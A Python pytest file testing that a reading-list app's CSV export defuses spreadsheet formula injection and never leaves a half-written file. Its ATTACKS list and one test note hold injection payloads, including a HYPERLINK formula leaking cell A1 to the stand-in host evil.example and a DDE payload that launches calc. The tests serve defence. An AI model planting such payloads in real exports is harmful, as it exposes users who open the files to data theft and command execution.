"""CSV export: formula injection defused, text round-trips, the file never half-written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from readinglist.formats.csv_export import COLUMNS, export_csv, neutralize, write_papers_csv
from readinglist.library import Library
from tests.fixtures.make_hostile import HERE as CORPUS

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_could_run_as_a_formula_is_quoted(attack: str) -> None:
    assert neutralize(attack) == "'" + attack


@pytest.mark.parametrize(
    "text", ["Deep Sets", "", "1+1=2", "A = B", "e-mail", "x@y.org", "«=»", "'quoted"]
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralize(text) == text


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_an_export_of_hostile_papers_holds_no_live_formula(
    library: Library, tmp_path: Path
) -> None:
    library.import_files([CORPUS / "html-in-entries.txt", CORPUS / "bidi-zero-width.txt"])
    ids = library.paper_ids()
    library.set_note(ids[0], '=HYPERLINK("http://evil.example")\nsecond line, "quoted"')
    library.change_tags(ids[:2], add=["@risk", "plain"])
    out = tmp_path / "papers.csv"
    count = export_csv(out, library.summaries(ids), {ids[0]: library.paper(ids[0]).note})
    assert count == len(ids)
    rows = _rows(out)
    assert list(rows[0]) == list(COLUMNS) and len(rows) == len(ids)
    for row in rows:
        for column, cell in row.items():
            if column not in ("id", "rating"):
                assert cell.lstrip(" ")[:1] not in set("=+-@\t\r\uff1d"), (column, cell)
    noted = next(r for r in rows if r["id"] == str(ids[0]))
    # Quoted, not lost: remove the quote and the user's text is all there.
    assert noted["note"][1:] == library.paper(ids[0]).note
    assert int(noted["rating"]) == 0


def test_a_failed_export_leaves_the_old_file_and_no_half_file(
    library: Library, tmp_path: Path
) -> None:
    library.import_files([CORPUS / "bidi-zero-width.txt"])
    out = tmp_path / "papers.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    papers = library.summaries(library.paper_ids())

    def breaks_half_way():  # type: ignore[no-untyped-def]
        yield papers[0]
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        export_csv(out, breaks_half_way())
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert not list(tmp_path.glob("*.partial"))


def test_write_to_a_stream() -> None:
    buffer = io.StringIO(newline="")
    assert write_papers_csv(buffer, []) == 0
    assert buffer.getvalue().strip() == ",".join(COLUMNS)
